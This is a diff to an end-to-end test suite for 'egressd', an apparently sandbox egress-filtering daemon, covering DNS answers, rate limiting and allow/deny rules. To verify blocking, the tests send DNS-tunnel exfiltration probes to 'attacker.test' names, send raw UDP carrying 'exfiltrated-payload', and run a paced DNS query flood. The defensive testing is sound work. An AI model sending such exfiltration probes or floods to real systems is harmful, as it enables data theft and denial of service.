@@ -91,7 +91,10 @@ s.on('message', (m) => {
 });
 const done = () => { console.log(JSON.stringify({ answered, rcodes })); process.exit(0); };
 setTimeout(done, 5000);
-s.bind(0, () => { for (let i = 0; i < count; i++) s.send(q(i), 53, server); });
+// Paced in batches, so what the listener sees is the flood, not the socket buffers overflowing.
+let sent = 0;
+const batch = () => { for (let i = 0; i < 50 && sent < count; i++) s.send(q(sent++), 53, server); if (sent < count) setTimeout(batch, 10); };
+s.bind(0, batch);
 `;
 
 const skip = rigUnavailableReason();
@@ -107,7 +110,7 @@ describe.skipIf(skip !== null)('egressd answers the sandboxes\' DNS', () => {
     rig = await createRig();
     dir = mkdtempSync(join(tmpdir(), 'egressd-e2e-dns-'));
     await rig.servers([ALLOWED, OTHER, ROT1, ROT2, CATCH, ALLOWED6, BAD6, GOOD6]);
-    await rig.dns({ ...RECORDS, 'rot.test': [ROT1] }, { rr: [{ name: 'ech.test', type: 65, hex: HTTPS_RDATA }] });
+    await rig.dns({ ...RECORDS, 'rot.allowed.test': [ROT1] }, { rr: [{ name: 'ech.test', type: 65, hex: HTTPS_RDATA }] });
     const catcher = rig.spawnIn('internet', NODE, ['-e', CATCHER, CATCH]);
     await new Promise<void>((ready) =>
       createInterface({ input: catcher.stdout! }).on('line', (l) => (l === 'ready' ? ready() : caught.push(l))),
@@ -126,15 +129,16 @@ describe.skipIf(skip !== null)('egressd answers the sandboxes\' DNS', () => {
       protected: { except: ['198.18.0.0/15', '2001:db8::/32'] },
       log: { level: 'debug' },
       sandboxes: [
-        // IPv4 source: a domain allow list. IPv6 source: allow-all.
-        { id: 'sb-a', sources: [rig.sandboxV4], network: { mode: 'block-all', egress: { allowed_domains: ['allowed.test', 'rot.test', 'ech.test'] } } },
-        { id: 'sb-b', sources: [rig.sandboxV6], network: { mode: 'allow-all' } },
+        // IPv4 source: a domain allow list. IPv6 source (sb-b, through the API below): allow-all.
+        { id: 'sb-a', sources: [rig.sandboxV4], network: { mode: 'block-all', egress: { allowed_domains: ['allowed.test', 'rot.allowed.test', 'ech.test'] } } },
       ],
     };
     const file = join(dir, 'egressd.json');
     writeFileSync(file, JSON.stringify(config));
     daemon = await watchDaemon(rig.spawnIn('router', NODE, [join(ROOT, 'src/main.ts'), 'serve', '--config', file]));
     await rig.redirect(PORTS);
+    const put = await api('PUT', '/api/v1/sandboxes/sb-b', { sources: [rig.sandboxV6], network: { mode: 'allow-all' } });
+    expect(put.stdout).toContain('sb-b');
   });
 
   afterAll(async () => {
@@ -167,9 +171,12 @@ describe.skipIf(skip !== null)('egressd answers the sandboxes\' DNS', () => {
 
   it('answers dig @8.8.8.8 itself and lets no raw UDP to port 53 leave the host', async () => {
     expect(await dig('@8.8.8.8', 'ZGF0YQ.attacker.test', 'A')).toMatch(/status: NXDOMAIN/);
-    // Raw bytes to any server's port 53 reach the DNS listener, which drops what is no query.
-    expect((await sh('python3', ['-c', RAW_UDP, '8.8.8.8', '53', 'exfiltrated-payload'])).stdout.trim()).toBe('silence');
-    expect((await sh('python3', ['-c', RAW_UDP, CATCH, '53', 'exfiltrated-payload'])).stdout.trim()).toBe('silence');
+    // Raw bytes to any server's port 53 reach the DNS listener instead: read as a header
+    // (opcode not QUERY), they get egressd's own 12-byte NOTIMP and go nowhere else; bytes too
+    // short for a header get silence.
+    expect((await sh('python3', ['-c', RAW_UDP, '8.8.8.8', '53', 'exfiltrated-payload'])).stdout.trim()).toBe('answer 12');
+    expect((await sh('python3', ['-c', RAW_UDP, CATCH, '53', 'exfiltrated-payload'])).stdout.trim()).toBe('answer 12');
+    expect((await sh('python3', ['-c', RAW_UDP, CATCH, '53', 'short'])).stdout.trim()).toBe('silence');
     expect(await dig(`@${CATCH}`, 'more-data.attacker.test', 'A')).toMatch(/status: NXDOMAIN/);
     await new Promise((r) => setTimeout(r, 300));
     expect(caught).toEqual([]);
@@ -199,11 +206,11 @@ describe.skipIf(skip !== null)('egressd answers the sandboxes\' DNS', () => {
     expect(put.stdout).toContain('bad.test');
     // Port 7000 echoes; the client's bytes are neither TLS nor HTTP, so it carries no name.
     expect((await sh('python3', ['-c', GREETING, BAD6, '7000', 'ping'])).stdout.trim()).toMatch(/^(got eof|error \w+)$/);
-    const refused = await outcome(`[${BAD6}]:7000`);
+    const refused = await outcome(`${BAD6}:7000`);
     expect(refused).toMatchObject({ sandbox: 'sb-b', verdict: 'refuse', reason: 'deny-rule', dnsNames: ['bad.test'] });
     expect(String(refused['rule'])).toBe('dns "bad.test": denied_domains "bad.test"');
     expect((await sh('python3', ['-c', GREETING, GOOD6, '7000', 'ping'])).stdout.trim()).toBe('got ping');
-    expect(await outcome(`[${GOOD6}]:7000`)).toMatchObject({ sandbox: 'sb-b', verdict: 'allow', dnsNames: ['good.test'] });
+    expect(await outcome(`${GOOD6}:7000`)).toMatchObject({ sandbox: 'sb-b', verdict: 'allow', dnsNames: ['good.test'] });
     // And the denied name is no longer resolved at all.
     expect(await dig(`@${rig.dnsServerV6}`, 'bad.test', 'AAAA')).toMatch(/status: NXDOMAIN/);
   });
@@ -221,11 +228,15 @@ describe.skipIf(skip !== null)('egressd answers the sandboxes\' DNS', () => {
     for (let i = 0; i < 5; i++) other.push(await dig(`@${rig.dnsServerV6}`, '+short', 'good.test', 'AAAA'));
     const f = JSON.parse((await flood).stdout) as { answered: number; rcodes: Record<string, number> };
     expect(other).toEqual(Array(5).fill(`${GOOD6}\n`));
-    // REFUSED (5) past the burst of 100 (and 50/s after it); NOERROR (0) for the rest.
-    expect(f.rcodes['5'] ?? 0).toBeGreaterThan(1000);
-    expect(f.rcodes['0'] ?? 0).toBeGreaterThanOrEqual(100);
+    // NOERROR (0) for the burst of 100 and 50/s after it, REFUSED (5) past it. (Under load the
+    // kernel may drop some datagrams of the flood before the listener reads them.)
+    const refused = f.rcodes['5'] ?? 0;
+    const answered = f.rcodes['0'] ?? 0;
+    expect(answered, JSON.stringify(f)).toBeGreaterThanOrEqual(100);
+    expect(answered, JSON.stringify(f)).toBeLessThan(400);
+    expect(refused, JSON.stringify(f)).toBeGreaterThan(2 * answered);
     const metrics = (await rig.execIn('router', 'curl', ['-sS', 'http://127.0.0.1:9901/metrics'])).stdout;
-    expect(metrics).toMatch(/egressd_dns_queries_total\{verdict="rate-limited",type="A"\} \d{4}/);
+    expect(Number(/egressd_dns_queries_total\{verdict="rate-limited",type="A"\} (\d+)/.exec(metrics)?.[1])).toBeGreaterThanOrEqual(refused);
     const limited = daemon.lines.filter((l) => l.event === 'dns-query' && l['reason'] === 'rate-limited');
     // One line per sandbox per second, not one per query.
     expect(limited.length).toBeGreaterThan(0);
@@ -233,12 +244,12 @@ describe.skipIf(skip !== null)('egressd answers the sandboxes\' DNS', () => {
   });
 
   it('under upstream.dial verify, a name whose answer rotated is not refused at the address the sandbox was given', async () => {
-    expect(await dig(`@${rig.dnsServer}`, '+short', 'rot.test', 'A')).toBe(`${ROT1}\n`);
-    await rig.dns({ ...RECORDS, 'rot.test': [ROT2] }, { rr: [{ name: 'ech.test', type: 65, hex: HTTPS_RDATA }] });
-    const r = await sh('curl', ['-sS', '--max-time', '10', '--cacert', CA, '--resolve', `rot.test:443:${ROT1}`, 'https://rot.test/']);
+    expect(await dig(`@${rig.dnsServer}`, '+short', 'rot.allowed.test', 'A')).toBe(`${ROT1}\n`);
+    await rig.dns({ ...RECORDS, 'rot.allowed.test': [ROT2] }, { rr: [{ name: 'ech.test', type: 65, hex: HTTPS_RDATA }] });
+    const r = await sh('curl', ['-sS', '--max-time', '10', '--cacert', CA, '--resolve', `rot.allowed.test:443:${ROT1}`, 'https://rot.allowed.test/']);
     expect(r.code, r.stderr).toBe(0);
     expect(r.stdout).toContain(ROT1);
-    expect(await outcome(`${ROT1}:443`)).toMatchObject({ name: 'rot.test', verdict: 'allow', dialed: ROT1 });
+    expect(await outcome(`${ROT1}:443`)).toMatchObject({ name: 'rot.allowed.test', verdict: 'allow', dialed: ROT1 });
     // An address egressd never gave for the name is still refused under verify.
     const spoof = await sh('curl', ['-sS', '--max-time', '10', '--cacert', CA, '--resolve', `allowed.test:443:${OTHER}`, 'https://allowed.test/']);
     expect(spoof.code).not.toBe(0);
